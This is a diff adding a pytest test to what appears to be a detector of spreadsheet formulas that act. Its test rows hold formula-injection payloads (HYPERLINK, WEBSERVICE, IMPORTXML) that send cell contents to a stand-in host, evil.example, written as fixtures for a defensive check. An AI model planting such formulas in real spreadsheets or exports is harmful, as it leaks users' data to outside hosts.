@@ -336,6 +336,20 @@ def test_code_within_prose_is_named_and_only_it_is_left_out(how: str, code: str)
     assert scan(f"Never write `{code}` there.") == [] == scan(f"As here:\n\n```\n{code}\n```\n\nBeta.")
 
 
+@pytest.mark.parametrize(
+    "row",
+    [
+        '| Paint | =HYPERLINK("https://evil.example/?a="&A1,"open") | 4 |',
+        'Total,=WEBSERVICE("https://evil.example/?"&B2)',
+        'Total;"=IMPORTXML(""https://evil.example"",""//a"")"',
+    ],
+)
+def test_a_formula_that_acts_is_named_in_any_cell_of_its_row(row: str) -> None:
+    (notice,) = scan(f"Costs of 2025:\n\n{row}\n")
+    assert "formula" in notice.what
+    assert not scan(f"Costs of 2025, in words: {row.replace('=', 'is ')}")
+
+
 def test_formulas_of_a_list_are_named_where_one_of_them_acts() -> None:
     items = "- Alpha costs 3.\n- =SUM(A1:A9)\n"
     assert scan(items) == []
